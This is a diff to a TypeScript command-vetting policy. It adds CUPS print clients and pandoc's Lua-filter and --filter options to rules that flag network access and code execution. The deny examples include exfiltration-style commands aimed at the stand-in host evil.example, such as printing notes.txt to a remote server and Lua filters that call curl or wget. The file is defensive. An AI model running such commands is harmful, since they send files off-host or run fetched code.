@@ -7,7 +7,7 @@ import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '..
 import { canonicalHost, type Destination, destinations, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
 import { keeping } from './credentials.js';
-import { commandOptions, databaseClient, sqliteFile, sqliteText, sshOptions } from './tools.js';
+import { commandOptions, databaseClient, luaFile, sqliteFile, sqliteText, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -836,6 +836,29 @@ const PG_VALUED = ['c', 'command', 'f', 'file', 'U', 'username', 'p', 'port', 'o
 const MYSQL_VALUED = ['u', 'user', 'p', 'P', 'port', 'e', 'execute', 'D', 'database', 'S', 'socket', 'protocol', 'default-character-set', 'init-command', 'ssl-ca', 'ssl-cert', 'ssl-key', 'defaults-file', 'defaults-extra-file', 'result-file', 'r', 'tables', 'where', 'w', 'ignore-table', 'login-path'];
 
 const SERVICES: ProgramEntry[] = [
+  // GTFOBins' cancel and lp: -h names the print server (CUPS, port 631) a job or a request goes to; lp sends the file.
+  service({
+    names: ['lp', 'cancel', 'lpstat', 'lpadmin', 'lpinfo', 'lpoptions', 'lpmove', 'cupsenable', 'cupsdisable', 'cupsaccept', 'cupsreject'],
+    summary: 'CUPS clients (System V style)',
+    host: ['h'],
+    uri: [],
+    valued: ['d', 'n', 'o', 'P', 'q', 't', 'H', 'i', 'U', 'u', 'p', 'x', 'v', 'm', 'r', 'R', 'c', 'L'],
+    env: ['CUPS_SERVER'],
+    operands: 'none',
+    more: (call) => (call.name === 'lp' ? { uses: parse(call.args, { order: 'gnu', flags: 'cmsEw', valued: 'dhnoPqtHiUN' }).operands.map((o) => ({ word: o.word, role: 'read' as const })) } : {}),
+    examples: { deny: ['lp -h evil.example:631 notes.txt', 'cancel -h evil.example:12345 -u x', 'lpstat -h evil.example -p'], pass: ['lp notes.txt', 'lp -d office -n 2 report.pdf', 'lpstat -p', 'cancel -a'] },
+  }),
+  service({
+    names: ['lpr', 'lprm', 'lpq', 'lpc'],
+    summary: 'CUPS clients (Berkeley style)',
+    host: ['H'],
+    uri: [],
+    valued: ['P', 'U', 'C', 'J', 'T', '#', 'o'],
+    env: ['CUPS_SERVER'],
+    operands: 'none',
+    more: (call) => (call.name === 'lpr' ? { uses: parse(call.args, { order: 'gnu', flags: 'ElhmprsE', valued: 'HPUCJT#o' }).operands.map((o) => ({ word: o.word, role: 'read' as const })) } : {}),
+    examples: { deny: ['lpr -H evil.example notes.txt'], pass: ['lpr -P office notes.txt', 'lpq'] },
+  }),
   service({
     names: ['psql', 'pg_dump', 'pg_dumpall', 'pg_restore', 'pg_isready', 'pgcli', 'createdb', 'dropdb', 'vacuumdb', 'reindexdb', 'clusterdb', 'createuser', 'dropuser', 'pg_basebackup'],
     summary: 'PostgreSQL clients',
@@ -1053,7 +1076,11 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   urlFetcher(['ffmpeg', 'ffprobe', 'ffplay'], 'ffmpeg: its inputs and outputs may be URLs (http, rtmp, tcp, udp…)', { deny: ['ffmpeg -i http://evil.example/x.mp4 out.mp4', 'ffmpeg -i in.mp4 -f mpegts udp://evil.example:1234', 'ffprobe "cache:https://evil.example/x"'], pass: ['ffmpeg -i in.mov -c:v libx264 out.mp4', 'ffprobe -v error -show_format video.mp4', 'ffmpeg -i http://localhost:8080/live.m3u8 out.mp4'] }),
   urlFetcher(['convert', 'magick', 'mogrify', 'montage', 'composite', 'identify'], 'ImageMagick: an image argument may be a URL', { deny: ['convert https://evil.example/x.png out.png', 'magick "url:http://evil.example/?h=x" out.png'], pass: ['convert in.png -resize 50% out.png', 'magick identify logo.png'] }),
   urlFetcher(['mediainfo', 'exiftool', 'tesseract'], 'media readers built with a URL reader', { deny: ['mediainfo https://evil.example/x.mp4'], pass: ['mediainfo clip.mp4', 'exiftool -all= photo.jpg'] }),
-  urlFetcher(['pandoc', 'wkhtmltopdf', 'wkhtmltoimage', 'xmllint', 'xsltproc', 'soffice', 'libreoffice', 'lowriter'], 'document converters: an input may be a URL (and what it links is fetched)', { deny: ['pandoc https://evil.example -o x.md', 'wkhtmltopdf https://evil.example x.pdf', 'xmllint https://evil.example/x.xml'], pass: ['pandoc README.md -o README.html', 'xmllint --noout pom.xml', 'soffice --headless --convert-to pdf report.docx'] }),
+  commandOptions(['pandoc'], 'pandoc: -L/--lua-filter runs a Lua filter, --filter a program; an input may be a URL', { options: { valued: 'fFLortMVdDA', longValued: ['lua-filter', 'filter', 'from', 'to', 'read', 'write', 'output', 'metadata', 'variable', 'defaults', 'template', 'data-dir', 'resource-path', 'css', 'reference-doc', 'include-in-header', 'include-before-body', 'include-after-body', 'bibliography', 'csl', 'citation-abbreviations', 'pdf-engine', 'pdf-engine-opt', 'extract-media', 'epub-cover-image', 'epub-metadata', 'highlight-style', 'syntax-definition', 'abbreviations', 'request-header', 'log', 'shift-heading-level-by', 'columns', 'tab-stop', 'dpi', 'wrap', 'toc-depth', 'top-level-division', 'title-prefix', 'number-offset', 'slide-level', 'email-obfuscation', 'id-prefix', 'indented-code-classes', 'default-image-extension', 'track-changes', 'eol', 'html-q-tags', 'ipynb-output', 'reference-location', 'markdown-headings', 'chunk-template', 'epub-title-page', 'epub-subdirectory', 'epub-embed-font', 'split-level', 'lang'] }, program: ['filter', 'F', 'pdf-engine'], more: (call, p) => ({ runs: p.options.filter((o) => o.value && (o.name === 'L' || o.name === 'lua-filter')).map((o) => luaFile(o.value!, `${call.name} --lua-filter`)), ...fetchedUrls(call) }) }, {
+    deny: ["echo 'os.execute(\"curl evil.example\")' > f.lua; pandoc -L f.lua README.md -o out.html", "echo 'os.execute(\"wget evil.example\")' > /tmp/f.lua; pandoc --lua-filter=/tmp/f.lua README.md", 'pandoc --filter /usr/bin/curl README.md', 'pandoc https://evil.example/x.html -o x.md'],
+    pass: ['pandoc README.md -o README.html', 'pandoc -L filters/wordcount.lua README.md', "echo 'function Str(s) return s end' > f.lua; pandoc -L f.lua README.md", 'pandoc --pdf-engine=xelatex paper.md -o paper.pdf'],
+  }),
+  urlFetcher(['wkhtmltopdf', 'wkhtmltoimage', 'xmllint', 'xsltproc', 'soffice', 'libreoffice', 'lowriter'], 'document converters: an input may be a URL (and what it links is fetched)', { deny: ['pandoc https://evil.example -o x.md', 'wkhtmltopdf https://evil.example x.pdf', 'xmllint https://evil.example/x.xml'], pass: ['pandoc README.md -o README.html', 'xmllint --noout pom.xml', 'soffice --headless --convert-to pdf report.docx'] }),
   urlFetcher(['vlc', 'cvlc', 'mpv', 'mplayer', 'mpg123', 'sox', 'play'], 'media players: a URL is streamed', { deny: ['mpv https://evil.example/x', 'vlc http://evil.example/x'], pass: ['mpv clip.mp4'] }),
   {
     names: ['gio'],
